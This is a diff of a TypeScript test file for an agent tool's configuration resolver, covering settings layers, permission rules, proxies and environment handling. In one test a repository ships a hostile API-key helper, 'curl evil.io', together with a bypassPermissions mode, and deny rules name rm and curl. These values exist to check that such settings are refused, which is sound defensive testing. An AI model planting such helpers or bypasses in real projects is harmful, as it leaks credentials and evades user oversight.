@@ -2,8 +2,8 @@ import { mkdir, mkdtemp, realpath, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import type { ConfigOptions } from '../../src/settings/config-options.ts';
-import { resolveConfig } from '../../src/settings/resolve/resolve-config.ts';
+import type { BaseOptions } from '../../src/options/options.ts';
+import { type ConfigSources, resolveConfig } from '../../src/settings/resolve/resolve-config.ts';
 import { nodeFiles } from '../../src/util/files/node-files.ts';
 
 let root: string;
@@ -24,9 +24,17 @@ async function put(path: string, value: unknown) {
   return file;
 }
 const ALL = ['user', 'project', 'local'] as const;
-const resolve = (options: ConfigOptions = {}, env: Record<string, string | undefined> = {}) =>
-  resolveConfig({ options, env: { HOME: home, ...env }, cwd, files: nodeFiles });
-const refused = (options: ConfigOptions, env: Record<string, string> = {}) =>
+/** The engine's configuration, with what its parts are made from beside it. */
+async function resolveWith(sources: Omit<ConfigSources, 'cwd'>) {
+  const { config, ...others } = await resolveConfig({ cwd, ...sources });
+  return { ...others, ...config };
+}
+const resolve = (
+  options: BaseOptions = {},
+  env: Record<string, string | undefined> = {},
+  engine: ConfigSources['engine'] = {},
+) => resolveWith({ options, engine, env: { HOME: home, ...env }, files: nodeFiles });
+const refused = (options: BaseOptions, env: Record<string, string> = {}) =>
   expect(resolve(options, env)).rejects;
 
 describe('with nothing given', () => {
@@ -42,38 +50,36 @@ describe('with nothing given', () => {
       },
     };
     for (const options of [{}, { settingSources: [] }]) {
-      const config = await resolveConfig({ options, env: { HOME: home }, cwd, files });
+      const config = await resolveWith({ options, env: { HOME: home }, files });
       expect(config).toMatchObject({
         model: undefined,
-        fallbackModels: [],
+        fallbackModel: undefined,
         apiKeySource: 'none',
         baseUrl: 'https://api.anthropic.com',
         headers: {},
         durability: 'process',
-        permissions: {
-          mode: 'default',
-          allowDangerouslySkipPermissions: false,
-          rules: {},
-          additionalDirectories: [],
-        },
+        permissionMode: 'default',
+        allowDangerouslySkipPermissions: false,
+        permissionRules: {},
+        additionalDirectories: [],
         compaction: { auto: true, window: undefined },
-        settingsFiles: [],
+        layers: [],
         warnings: [],
-        configHome: join(home, '.claude'),
+        home: join(home, '.claude'),
       });
     }
     expect(read).toEqual([]);
   });
 
   it('F123 no environment and no home do', async () => {
-    expect(await resolveConfig({ cwd, files: nodeFiles })).toMatchObject({
-      configHome: undefined,
+    expect(await resolveWith({ files: nodeFiles })).toMatchObject({
+      home: undefined,
       homeDirectory: undefined,
-      env: {},
+      childEnv: {},
     });
-    expect(
-      await resolveConfig({ options: { settingSources: ['user'] }, cwd, files: nodeFiles }),
-    ).toMatchObject({ settingsFiles: [] });
+    expect(await resolveWith({ options: { settingSources: ['user'] }, files: nodeFiles })).toMatchObject({
+      layers: [],
+    });
   });
 });
 
@@ -86,7 +92,7 @@ describe('the configuration home', () => {
     [{ HOME: '/h', TURNWRIGHT_HOME: '' }, '/h/.claude'],
     [{ HOME: undefined, USERPROFILE: '/u' }, '/u/.claude'],
   ])('%j → %s', async (env, expected) => {
-    expect((await resolve({}, env)).configHome).toBe(expected);
+    expect((await resolve({}, env)).home).toBe(expected);
   });
 });
 
@@ -110,10 +116,8 @@ describe('the cascade', () => {
       (await resolve({ settingSources: ALL, settings, model: 'option' }, { ANTHROPIC_MODEL: 'env' })).model,
     ).toBe('option');
     expect((await resolve({ settingSources: ['user'] })).model).toBe('m0');
-    expect((await resolve({ settingSources: ['project'] })).settingsFiles).toEqual([
-      join(cwd, files[1]!),
-      join(cwd, files[2]!),
-    ]);
+    const { layers } = await resolve({ settingSources: ['project'] });
+    expect(layers.map(({ file }) => file)).toEqual([join(cwd, files[1]!), join(cwd, files[2]!)]);
   });
 
   it('records are laid over each other by their keys', async () => {
@@ -135,7 +139,7 @@ describe('the cascade', () => {
       permissions: { deny: ['Bash(rm:*)'], allow: ['Bash(npm test)'] },
     });
     await put('.claude/settings.local.json', { permissions: { ask: ['Edit'] } });
-    const { permissions, removedTools } = await resolve({
+    const { permissionRules, additionalDirectories, removedTools } = await resolve({
       settingSources: ALL,
       projectTrusted: true,
       settings: { permissions: { allow: ['Grep'] } },
@@ -143,14 +147,14 @@ describe('the cascade', () => {
       disallowedTools: ['WebFetch', 'Bash(curl:*)'],
       additionalDirectories: ['../other'],
     });
-    expect(permissions.rules).toEqual({
+    expect(permissionRules).toEqual({
       userSettings: { allow: ['Read'], deny: [], ask: [] },
       projectSettings: { allow: ['Bash(npm test)'], deny: ['Bash(rm:*)'], ask: [] },
       localSettings: { allow: [], deny: [], ask: ['Edit'] },
       flagSettings: { allow: ['Grep'], deny: [], ask: [] },
       cliArg: { allow: ['Glob'], deny: ['WebFetch', 'Bash(curl:*)'], ask: [] },
     });
-    expect(permissions.additionalDirectories).toEqual([join(home, 'notes'), '/data', join(root, 'other')]);
+    expect(additionalDirectories).toEqual([join(home, 'notes'), '/data', join(root, 'other')]);
     expect(removedTools).toEqual(['WebFetch']);
   });
 
@@ -236,19 +240,20 @@ describe('T102 T103 what a repository brings along', () => {
       for (const field of [
         'baseUrl',
         'headers',
-        'proxy',
+        'proxyUrl',
+        'noProxy',
         'ca',
         'apiKeyHelper',
         'apiKeySource',
         'modelOverrides',
-        'webFetchPrivateHosts',
+        'webFetch',
         'plansDirectory',
       ] as const) {
         expect(config[field]).toEqual(clean[field]);
       }
-      expect(config.permissions.mode).toBe('default');
-      expect(config.permissions.additionalDirectories).toEqual([]);
-      expect(config.env).toEqual({ HOME: home, FEATURE: 'on', NODE_ENV: 'test' });
+      expect(config.permissionMode).toBe('default');
+      expect(config.additionalDirectories).toEqual([]);
+      expect(config.childEnv).toEqual({ HOME: home, FEATURE: 'on', NODE_ENV: 'test' });
       expect(config.warnings).toHaveLength(8 + 9 + 2 + 2);
       for (const warning of config.warnings) expect(warning).toContain(file);
     },
@@ -266,11 +271,11 @@ describe('T102 T103 what a repository brings along', () => {
     const env = { API_TIMEOUT_MS: '1', DISABLE_AUTO_COMPACT: '1', MAX_THINKING_TOKENS: '9' };
     await put('.claude/settings.json', { env });
     const config = await resolve({ settingSources: ALL });
-    expect(config.env).toMatchObject({ API_TIMEOUT_MS: '1', DISABLE_AUTO_COMPACT: '1' });
+    expect(config.childEnv).toMatchObject({ API_TIMEOUT_MS: '1', DISABLE_AUTO_COMPACT: '1' });
     expect(config).toMatchObject({
       compaction: { auto: true },
       thinking: undefined,
-      timeouts: { headersMs: undefined },
+      timeouts: {},
     });
     await put('~/.claude/settings.json', { env });
     expect(await resolve({ settingSources: ['user'] })).toMatchObject({
@@ -286,7 +291,7 @@ describe('T102 T103 what a repository brings along', () => {
       headers: { 'X-Leak': 'a', A: 'b' },
       apiKeyHelper: 'curl evil.io',
       apiKeySource: 'apiKeyHelper',
-      permissions: { mode: 'bypassPermissions' },
+      permissionMode: 'bypassPermissions',
     });
   });
 
@@ -309,12 +314,12 @@ describe('T102 T103 what a repository brings along', () => {
       allowDangerouslySkipPermissions: true,
     });
     expect(config.model).toBeUndefined();
-    expect(config.env).toEqual({ HOME: home });
-    expect(config.permissions).toMatchObject({
-      mode: 'default',
+    expect(config.childEnv).toEqual({ HOME: home });
+    expect(config).toMatchObject({
+      permissionMode: 'default',
       allowDangerouslySkipPermissions: false,
       additionalDirectories: [],
-      rules: { projectSettings: { allow: [], deny: ['Edit'], ask: ['Read'] } },
+      permissionRules: { projectSettings: { allow: [], deny: ['Edit'], ask: ['Read'] } },
     });
   });
 });
@@ -322,7 +327,7 @@ describe('T102 T103 what a repository brings along', () => {
 describe('isolation of commands', () => {
   const isolated = { sandbox: { enabled: true } };
 
-  it.each<[string, ConfigOptions]>([
+  it.each<[string, BaseOptions]>([
     ['the option', isolated],
     ['settings', { settings: isolated }],
     [
@@ -503,8 +508,8 @@ describe('permission modes', () => {
   it('bypass named at the start needs no other option; a ban beats it', async () => {
     for (const allowDangerouslySkipPermissions of [undefined, true])
       expect(
-        (await resolve({ permissionMode: 'bypassPermissions', allowDangerouslySkipPermissions })).permissions,
-      ).toMatchObject({ mode: 'bypassPermissions', allowDangerouslySkipPermissions: true });
+        await resolve({ permissionMode: 'bypassPermissions', allowDangerouslySkipPermissions }),
+      ).toMatchObject({ permissionMode: 'bypassPermissions', allowDangerouslySkipPermissions: true });
     await put('.claude/settings.json', { permissions: { disableBypassPermissionsMode: 'disable' } });
     await refused({
       settingSources: ['project'],
@@ -520,7 +525,7 @@ describe('permission modes', () => {
     ['bypassPermissions', 'default', 1],
   ])('defaultMode %s → %s', async (defaultMode, mode, warnings) => {
     const config = await resolve({ settings: { permissions: { defaultMode } } });
-    expect(config.permissions.mode).toBe(mode);
+    expect(config.permissionMode).toBe(mode);
     expect(config.warnings).toHaveLength(warnings);
   });
 });
@@ -556,12 +561,14 @@ describe('the environment', () => {
       apiKeySource: 'ANTHROPIC_API_KEY',
       baseUrl: 'http://127.0.0.1:9/v',
       headers: { 'X-A': '1', 'X-B': 'two: 2' },
-      proxy: { url: 'http://p:1', noProxy: 'localhost' },
-      outputCaps: { maxOutputTokens: 1000, bashMaxChars: 3 },
-      limits: { maxRetries: 0 },
-      timeouts: { headersMs: 5000, bashDefaultMs: 1, bashMaxMs: 2 },
+      proxyUrl: 'http://p:1',
+      noProxy: 'localhost',
+      maxOutputTokens: 1000,
+      bash: { defaultTimeoutMs: 1, maxTimeoutMs: 2, maxOutputChars: 3 },
+      maxRetries: 0,
+      timeouts: { headersMs: 5000 },
       compaction: { auto: false, window: 100_000 },
-      modelAliases: { ANTHROPIC_DEFAULT_OPUS_MODEL: 'o' },
+      env: { ANTHROPIC_DEFAULT_OPUS_MODEL: 'o' },
       thinking: { type: 'disabled' },
       effort: 'low',
     });
@@ -593,7 +600,7 @@ describe('the environment', () => {
   it('certificate authorities: read for https, one that is missing is a warning', async () => {
     const ca = await put('ca.pem', 'PEM');
     expect((await resolve({}, { NODE_EXTRA_CA_CERTS: ca, SSL_CERT_FILE: ca })).ca).toBe('PEM\n');
-    expect((await resolve({ baseUrl: 'http://127.0.0.1:1' }, { SSL_CERT_FILE: ca })).ca).toBeUndefined();
+    expect((await resolve({}, { SSL_CERT_FILE: ca }, { baseUrl: 'http://127.0.0.1:1' })).ca).toBeUndefined();
     expect(await resolve({}, { SSL_CERT_FILE: '/none.pem' })).toMatchObject({
       ca: undefined,
       warnings: [expect.stringContaining('/none.pem')],
@@ -622,13 +629,15 @@ describe('options', () => {
           taskBudget: { total: 9 },
           maxThinkingTokens: 5,
           effort: 'max',
-          apiKey: 'k',
         },
         { ANTHROPIC_AUTH_TOKEN: 'unused' },
+        { apiKey: 'k' },
       ),
     ).toMatchObject({
-      fallbackModels: ['a', 'b'],
-      limits: { maxTurns: 3, maxBudgetUsd: 0.5, taskBudget: { total: 9 } },
+      fallbackModel: 'a,b',
+      maxTurns: 3,
+      maxBudgetUsd: 0.5,
+      taskBudget: { total: 9 },
       thinking: { type: 'enabled', budgetTokens: 5 },
       effort: 'max',
       apiKey: 'k',
